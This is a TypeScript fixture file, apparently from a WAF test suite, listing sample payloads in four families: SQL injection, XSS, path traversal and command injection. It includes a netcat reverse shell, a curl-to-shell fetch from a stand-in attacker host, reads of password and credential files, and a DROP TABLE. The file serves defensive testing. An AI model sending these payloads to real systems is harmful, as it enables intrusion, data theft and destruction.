// Representative attack payloads of the four families the OWASP Core Rule Set's attack rules are
// named after (SQL injection 942xxx, XSS 941xxx, path traversal 930xxx, remote command execution
// 932xxx), written for this suite: the classic forms a scanner sends first, a few evasions each.
// A bounded list, never downloaded.

export type AttackFamily = 'SQL injection' | 'XSS' | 'path traversal' | 'command injection';

export interface AttackSample {
  family: AttackFamily;
  payload: string;
}

const SQL_INJECTION = [
  "' OR '1'='1",
  "' OR 1=1 --",
  "admin'--",
  '1; DROP TABLE accounts; --',
  "' UNION SELECT username, password FROM users --",
  "1' AND SLEEP(5) --",
  "'; EXEC xp_cmdshell('dir') --",
  "1' AND (SELECT COUNT(*) FROM pg_catalog.pg_tables) > 0 --",
];

const XSS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(document.domain)>',
  'javascript:alert(1)',
  '"><script>alert(String.fromCharCode(88,83,83))</script>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<body onload=alert(1)>',
  "<a href='javascript:alert(1)'>click</a>",
];

const PATH_TRAVERSAL = [
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '....//....//etc/passwd',
  '/etc/shadow',
  '..%c0%af..%c0%afetc/passwd',
  'file:///etc/passwd',
  '../../../../proc/self/environ',
];

const COMMAND_INJECTION = [
  '; cat /etc/passwd',
  '| id',
  '`whoami`',
  '$(uname -a)',
  '&& ping -c 1 127.0.0.1',
  '; nc -e /bin/sh 10.0.0.1 4444',
  '|| curl http://attacker.example/x.sh | sh',
  "; bash -c 'echo pwned'",
];

export const ATTACK_SAMPLES: readonly AttackSample[] = [
  ...SQL_INJECTION.map((payload) => ({ family: 'SQL injection' as const, payload })),
  ...XSS.map((payload) => ({ family: 'XSS' as const, payload })),
  ...PATH_TRAVERSAL.map((payload) => ({ family: 'path traversal' as const, payload })),
  ...COMMAND_INJECTION.map((payload) => ({ family: 'command injection' as const, payload })),
];
